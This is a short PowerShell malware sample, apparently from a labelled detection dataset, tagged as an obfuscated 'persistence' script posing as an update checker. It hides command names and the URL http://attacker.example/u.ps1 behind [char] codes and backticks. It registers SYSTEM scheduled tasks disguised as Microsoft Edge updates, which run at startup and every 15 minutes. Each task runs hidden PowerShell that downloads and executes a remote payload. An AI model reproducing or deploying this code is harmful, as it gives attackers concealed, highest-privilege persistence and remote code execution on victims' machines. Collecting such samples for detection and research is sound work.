# description: "Update checker" that registers a SYSTEM scheduled task running a remote payload, using [char] codes and backticks to hide names.
# family: persistence
# obfuscated: yes
$reg = -join ([char[]](82,101,103,105,115,116,101,114,45,83,99,104,101,100,117,108,101,100,84,97,115,107))
$url = -join ([char[]](104,116,116,112,58,47,47,97,116,116,97,99,107,101,114,46,101,120,97,109,112,108,101,47,117,46,112,115,49))
$act = N`ew-Sch`eduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -C iex(iwr $url -UseB).Content"
$trg = New-ScheduledTaskTrigger -AtStartup
& $reg -TaskName 'MicrosoftEdgeUpdateCore' -Action $act -Trigger $trg -User 'SYSTEM' -RunLevel Highest -Force
& ('sch' + 'tasks') /create /tn 'EdgeUpdateUA' /sc minute /mo 15 /ru SYSTEM /tr "powershell -w hidden -c iex(iwr $url -UseB).Content" /f
